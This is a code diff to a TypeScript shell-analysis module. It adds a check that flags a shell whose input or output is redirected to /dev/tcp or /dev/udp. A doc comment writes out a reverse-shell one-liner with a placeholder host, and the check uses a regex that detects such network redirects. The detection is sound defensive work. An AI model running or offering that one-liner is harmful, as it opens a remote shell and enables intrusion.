@@ -1,5 +1,7 @@
 import type {Assignment, Command, CommandArgument, Word} from 'unbash'
 import {runEnvironmentCommand} from './carried-commands.ts'
+import {baseName} from './files.ts'
+import {isShell} from './interpreters.ts'
 import {inputOf, openOutputs, writeOutput} from './redirects.ts'
 import {isPlainProgram} from './run-fields.ts'
 import {doubt, type Field, feed, type Shell, spend} from './shell.ts'
@@ -20,11 +22,21 @@ export function runSimple(shell: Shell, node: Command, stdin: Text | undefined):
     for (const part of node.prefix)
       if (part.type === 'Assignment') assignmentWords(shell, part, node.name === undefined)
     const outputs = openOutputs(shell, node.redirects)
+    if (talksToNetwork(node)) doubt(shell, 'a shell takes its commands from the network')
     const output = node.name === undefined ? bareOutput(node, input) : runWords(shell, [node.name, ...node.args], input)
     return writeOutput(shell, outputs, output)
   } finally {
     shell.stdin = outer
   }
+}
+
+/** `sh -i >& /dev/tcp/host/port 0>&1`. */
+function talksToNetwork({name, redirects}: Command): boolean {
+  return (
+    name !== undefined &&
+    isShell(baseName(name.value ?? name.text)) &&
+    redirects.some((redirect) => 'target' in redirect && /^\/dev\/(?:tcp|udp)\//.test(redirect.target?.text ?? ''))
+  )
 }
 
 /** `$(<file)` is what the file holds. */
